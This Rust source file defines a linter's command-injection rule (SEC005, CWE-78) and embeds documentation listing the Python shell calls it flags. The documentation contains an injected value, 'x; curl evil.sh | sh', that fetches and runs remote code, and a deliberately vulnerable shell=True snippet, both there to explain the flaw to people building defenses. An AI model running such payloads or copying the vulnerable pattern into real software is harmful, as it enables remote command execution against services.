//! SEC005: the documentation is [`DOC`].

use retort_dataflow::SinkKind;

use crate::finding::{Category, Severity};
use crate::registry::Rule;
use crate::taint::TaintCheck;

pub const RULE: Rule = Rule {
    code: "SEC005",
    name: "command-injection",
    category: Category::Security,
    severity: Severity::Error,
    cwe: Some(78),
    summary: "Shell command built from request data",
    doc: DOC,
};

/// The engine's `command` sinks (see `docs/dataflow.md`).
pub const TAINT: TaintCheck = TaintCheck { kind: SinkKind::Command, sink: None };

pub const DOC: &str = r#"
## What it does
Flags request data reaching a shell: `os.system()`, `os.popen()`,
`subprocess.getoutput()`, and `subprocess.run/call/check_call/check_output/Popen`
with `shell=True`, and argument lists (without a shell) whose program is
request data or that run `sh -c`/`bash -c` with request data in the
command text. Request data as one argument of a fixed program
(`["ping", "-c", "1", host]`) is not flagged.

## Why is this bad?
The shell interprets `;`, `|`, `$(…)` and backticks: a value such as
`x; curl evil.sh | sh` runs the attacker's commands with the service's
privileges.

## Example
```python
host = request.args["host"]
out = subprocess.check_output(f"ping -c 1 {host}", shell=True)
```

Use instead:
```python
host = request.args["host"]
out = subprocess.check_output(["ping", "-c", "1", host])
```

## References
- [Python: Security Considerations for subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [CWE-78](https://cwe.mitre.org/data/definitions/78.html)
"#;
